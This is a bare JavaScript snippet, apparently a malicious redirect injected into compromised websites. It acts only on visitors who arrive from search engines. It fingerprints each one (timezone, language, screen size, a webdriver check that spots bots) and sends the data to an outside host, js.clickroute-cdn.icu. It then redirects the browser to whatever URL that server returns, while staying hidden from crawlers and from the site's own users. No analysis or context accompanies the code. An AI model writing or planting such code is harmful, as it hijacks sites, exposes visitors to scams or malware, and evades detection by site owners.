(function (win, doc, nav) {
  var cbName = '_cb' + Math.floor(Math.random() * 1e9);
  var searchRef = /google\.|bing\.|yahoo\.|yandex\.|duckduckgo\./i.test(doc.referrer);
  if (!searchRef && doc.referrer.indexOf(location.hostname) !== -1) return;

  win[cbName] = function (resp) {
    try { delete win[cbName]; } catch (e) { win[cbName] = undefined; }
    if (!resp || !resp.u) return;
    if (resp.m === 'meta') {
      var meta = doc.createElement('meta');
      meta.httpEquiv = 'refresh';
      meta.content = '0;url=' + resp.u;
      doc.getElementsByTagName('head')[0].appendChild(meta);
    } else {
      win.location.replace(resp.u);
    }
  };

  var q = {
    t: (function () { try { return Intl.DateTimeFormat().resolvedOptions().timeZone; } catch (e) { return ''; } })(),
    l: nav.language,
    s: screen.width + '_' + screen.height,
    m: nav.maxTouchPoints || 0,
    w: nav.webdriver ? 1 : 0,
    r: doc.referrer,
    h: location.href,
    cb: cbName
  };
  var qs = [];
  for (var k in q) {
    if (Object.prototype.hasOwnProperty.call(q, k)) qs.push(k + '=' + encodeURIComponent(q[k]));
  }

  var s = doc.createElement('script');
  s.async = true;
  s.src = 'https://js.clickroute-cdn.icu/in.js?' + qs.join('&');
  s.onerror = function () { s.parentNode && s.parentNode.removeChild(s); };
  (doc.head || doc.documentElement).appendChild(s);
})(window, document, navigator);
